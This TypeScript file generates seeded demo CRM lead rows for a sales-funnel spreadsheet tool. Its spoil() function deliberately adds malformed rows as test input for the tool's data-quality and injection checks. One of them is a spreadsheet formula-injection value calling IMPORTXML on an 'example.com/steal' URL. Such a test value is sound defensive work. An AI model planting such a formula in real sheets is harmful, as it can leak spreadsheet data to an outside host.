/**
 * Deterministic, realistic demo leads: what a CRM export pasted into a sheet looks like, including a
 * handful of deliberately bad rows. Pure: a seeded PRNG, no Math.random, no current time; dates are
 * wall-clock 'YYYY-MM-DD HH:MM' strings so the rows are the same in every time zone.
 */
import { parseConfig, type FunnelConfig } from './config';
import type { CellValue } from './types';
import { formatWallDateTime } from './time/format';
import { DAY_MS, endOfDay, parseIsoDay } from './time/wall-time';

export const SAMPLE_HEADERS = [
  'Lead ID', 'Created at', 'Channel', 'Manager', 'Product', 'Region', 'Amount',
  'Contacted at', 'Qualified at', 'Proposal at', 'Won at', 'Lost at', 'Lost reason',
] as const;

const C = {
  id: 0, created: 1, channel: 2, manager: 3, product: 4, region: 5, amount: 6,
  contacted: 7, qualified: 8, proposal: 9, won: 10, lost: 11, reason: 12,
} as const;

function buildSampleConfig(): FunnelConfig {
  const res = parseConfig({
    columns: {
      createdAt: 'Created at', id: 'Lead ID', channel: 'Channel', manager: 'Manager', product: 'Product',
      region: 'Region', amount: 'Amount', lostAt: 'Lost at', lostReason: 'Lost reason',
    },
    stages: [
      { name: 'Contacted', column: 'Contacted at' },
      { name: 'Qualified', column: 'Qualified at' },
      { name: 'Proposal', column: 'Proposal at' },
      { name: 'Won', column: 'Won at' },
    ],
  });
  if (!res.ok) throw new Error(`SAMPLE_CONFIG is invalid: ${res.errors.join('; ')}`);
  return res.config;
}

export const SAMPLE_CONFIG: FunnelConfig = buildSampleConfig();

/**
 * SLA rules of the CLI demo (and examples/funnel.json): an 8-hour working day with a lunch break.
 * Kept apart from SAMPLE_CONFIG so the add-on's example sheets keep their tabs.
 */
export const SAMPLE_SLA_SETTINGS = {
  calendar: { days: [1, 2, 3, 4, 5], hours: [['09:00', '13:00'], ['14:00', '18:00']], holidays: ['2026-11-04'] },
  rules: [
    { name: 'First contact', from: 'created', to: 'Contacted', limit: '2h' },
    { name: 'Qualification', from: 'Contacted', to: 'Qualified', limit: '24h' },
    { name: 'Proposal', from: 'Qualified', to: 'Proposal', limit: '40h' },
  ],
};

/** mulberry32: tiny, fast, good enough for demo data. */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Weighted<T> {
  value: T;
  weight: number;
}

/** quality multiplies the qualification odds; speed multiplies contact delays; skill the win odds. */
const CHANNELS: Weighted<{ name: string; quality: number }>[] = [
  { value: { name: 'Google Ads', quality: 1.0 }, weight: 27 },
  { value: { name: 'Yandex Direct', quality: 0.9 }, weight: 22 },
  { value: { name: 'Facebook', quality: 0.55 }, weight: 19 },
  { value: { name: 'Organic', quality: 1.2 }, weight: 16 },
  { value: { name: 'Referral', quality: 1.6 }, weight: 9 },
  { value: { name: 'Events', quality: 1.35 }, weight: 7 },
];
const MANAGERS: Weighted<{ name: string; speed: number; skill: number }>[] = [
  { value: { name: 'Anna Smirnova', speed: 0.8, skill: 1.15 }, weight: 26 },
  { value: { name: 'Иван Петров', speed: 1.0, skill: 1.0 }, weight: 24 },
  { value: { name: 'Olga Kuznetsova', speed: 1.3, skill: 0.9 }, weight: 20 },
  { value: { name: 'Дмитрий Соколов', speed: 2.2, skill: 1.05 }, weight: 18 },
  { value: { name: 'Mark Lee', speed: 1.1, skill: 0.8 }, weight: 12 },
];
const PRODUCTS: Weighted<{ name: string; win: number; cycle: number; amount: [number, number] }>[] = [
  { value: { name: 'CRM Basic', win: 1.15, cycle: 0.8, amount: [900, 2500] }, weight: 50 },
  { value: { name: 'CRM Pro', win: 1.0, cycle: 1.0, amount: [3000, 9000] }, weight: 35 },
  { value: { name: 'Analytics Suite', win: 0.65, cycle: 1.6, amount: [12000, 35000] }, weight: 15 },
];
const REGIONS: Weighted<string>[] = [
  { value: 'Moscow', weight: 38 },
  { value: 'Saint Petersburg', weight: 22 },
  { value: 'Kazan', weight: 12 },
  { value: 'Novosibirsk', weight: 10 },
  { value: 'Almaty', weight: 9 },
  { value: '', weight: 9 },
];
const EARLY_REASONS = ['No response', 'Не отвечает', 'Not a target client', 'Нецелевой', 'Spam'];
const LATE_REASONS = ['No budget', 'Нет бюджета', 'Chose a competitor', 'Выбрали конкурента', 'Too expensive', 'Дорого', 'Postponed'];

/** Base odds of passing each step (Contacted, Qualified, Proposal, Won) for an average lead. */
const BASE_PASS = [0.88, 0.5, 0.55, 0.42];
/** Median delay from the previous step, hours; and the log-normal spread. */
const DELAY_MEDIAN_H = [2.5, 2.5 * 24, 7 * 24, 12 * 24];
const DELAY_SIGMA = [1.1, 0.8, 0.6, 0.7];

function pick<T>(rand: () => number, items: Weighted<T>[]): T {
  const total = items.reduce((a, i) => a + i.weight, 0);
  let x = rand() * total;
  for (const i of items) {
    x -= i.weight;
    if (x < 0) return i.value;
  }
  return items[items.length - 1].value;
}

function normal(rand: () => number): number {
  const u = 1 - rand();
  const v = rand();
  return Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * v);
}

function logNormalHours(rand: () => number, medianH: number, sigma: number): number {
  return medianH * Math.exp(sigma * normal(rand));
}

const HOUR_MS = 3_600_000;


/** Creation days over 26 weeks ending `today`: weekdays busy, weekends quiet, a slow upward trend. */
function dayPicker(rand: () => number, todayMs: number): () => number {
  const days = 26 * 7;
  const first = todayMs - (days - 1) * DAY_MS;
  const cumulative: number[] = [];
  let sum = 0;
  for (let d = 0; d < days; d++) {
    const weekday = new Date(first + d * DAY_MS).getUTCDay();
    const w = weekday === 0 ? 0.2 : weekday === 6 ? 0.3 : 1;
    sum += w * (1 + (0.3 * d) / days);
    cumulative.push(sum);
  }
  return () => {
    const x = rand() * sum;
    let lo = 0;
    let hi = days - 1;
    while (lo < hi) {
      const mid = (lo + hi) >> 1;
      if (cumulative[mid] > x) hi = mid;
      else lo = mid + 1;
    }
    return first + lo * DAY_MS;
  };
}

interface Lead {
  created: number;
  channel: string;
  manager: string;
  product: string;
  region: string;
  amount: number | '';
  stages: (number | null)[];
  lost: number | null;
  reason: string;
}

function makeLead(rand: () => number, day: number, asOfEnd: number): Lead {
  const channel = pick(rand, CHANNELS);
  const manager = pick(rand, MANAGERS);
  const product = pick(rand, PRODUCTS);
  const region = pick(rand, REGIONS);
  const hour = Math.min(21, Math.max(7, 13 + 3 * normal(rand)));
  const created = day + Math.floor(hour * 60) * 60_000;
  const pass = [
    BASE_PASS[0],
    BASE_PASS[1] * channel.quality,
    BASE_PASS[2] * Math.sqrt(channel.quality),
    BASE_PASS[3] * manager.skill * product.win,
  ].map((p) => Math.min(0.95, p));
  const slow = [manager.speed, 1, product.cycle, product.cycle];

  const stages: (number | null)[] = [null, null, null, null];
  let t = created;
  let failedAt = -1;
  for (let k = 0; k < 4; k++) {
    if (rand() >= pass[k]) {
      failedAt = k;
      break;
    }
    t += logNormalHours(rand, DELAY_MEDIAN_H[k] * slow[k], DELAY_SIGMA[k]) * HOUR_MS;
    if (t > asOfEnd) break; // not there yet on the report date
    stages[k] = Math.floor(t / 60_000) * 60_000;
  }
  let lost: number | null = null;
  let reason = '';
  if (failedAt >= 0 && rand() < 0.75) {
    const at = t + logNormalHours(rand, 5 * 24, 0.8) * HOUR_MS;
    if (at <= asOfEnd) {
      lost = Math.floor(at / 60_000) * 60_000;
      const reasons = failedAt <= 1 ? EARLY_REASONS : LATE_REASONS;
      reason = reasons[Math.floor(rand() * reasons.length)];
    }
  }
  // CRMs skip stages: a manager moves the deal straight on and the middle timestamp stays empty.
  if (stages[2] !== null && rand() < 0.07) stages[1] = null;
  if (stages[1] !== null && rand() < 0.04) stages[0] = null;
  if (stages[3] !== null && rand() < 0.03) stages[2] = null;

  let amount: number | '' = '';
  if (stages[3] !== null) {
    const [lo, hi] = product.amount;
    amount = Math.round((lo + (hi - lo) * rand()) / 10) * 10;
  }
  return { created, channel: channel.name, manager: manager.name, product: product.name, region, amount, stages, lost, reason };
}

function toRow(lead: Lead, id: number): CellValue[] {
  const ts = (ms: number | null) => (ms === null ? '' : formatWallDateTime(ms));
  return [
    id, formatWallDateTime(lead.created), lead.channel, lead.manager, lead.product, lead.region, lead.amount,
    ts(lead.stages[0]), ts(lead.stages[1]), ts(lead.stages[2]), ts(lead.stages[3]), ts(lead.lost), lead.reason,
  ];
}

/** Deliberately bad rows, so the demo's Data issues tab (and injection safety) has something to show. */
function spoil(rows: CellValue[][]): void {
  const n = rows.length - 1;
  if (n < 40) return;
  const at = (f: number) => rows[1 + Math.floor(n * f)];
  at(0.11)[C.created] = 'sometime in May';
  at(0.23)[C.id] = at(0.23 - 1 / n)[C.id];
  at(0.37)[C.amount] = -1500;
  at(0.41)[C.amount] = 'TBD';
  at(0.52)[C.channel] = '=IMPORTXML("https://example.com/steal","//a")';
  at(0.58)[C.region] = '-1+2';
  const early = at(0.66);
  const created = parseWall(String(early[C.created]));
  if (created !== null) early[C.contacted] = formatWallDateTime(created - 2 * DAY_MS);
  at(0.74)[C.qualified] = 'yesterday';
}

function parseWall(text: string): number | null {
  const day = parseIsoDay(text.slice(0, 10));
  if (day === null) return null;
  return day + Number(text.slice(11, 13)) * HOUR_MS + Number(text.slice(14, 16)) * 60_000;
}

export interface SampleOptions {
  seed?: number;
  count?: number;
  /** Last day of the data and the day "now" is taken to be, `YYYY-MM-DD`. */
  today?: string;
}

/** Header row + `count` lead rows, oldest first, as a sheet would hold them. */
export function sampleLeadRows(opts: SampleOptions = {}): CellValue[][] {
  const { seed = 42, count = 1500, today = '2026-11-22' } = opts;
  const todayMs = parseIsoDay(today);
  if (todayMs === null) throw new Error(`sampleLeadRows: today must be YYYY-MM-DD, got "${today}"`);
  const rand = mulberry32(seed);
  const nextDay = dayPicker(rand, todayMs);
  const asOfEnd = endOfDay(todayMs);
  const leads: Lead[] = [];
  for (let i = 0; i < count; i++) leads.push(makeLead(rand, nextDay(), asOfEnd));
  leads.sort((a, b) => a.created - b.created);
  const rows: CellValue[][] = [[...SAMPLE_HEADERS]];
  leads.forEach((lead, i) => rows.push(toRow(lead, 100_001 + i)));
  spoil(rows);
  return rows;
}
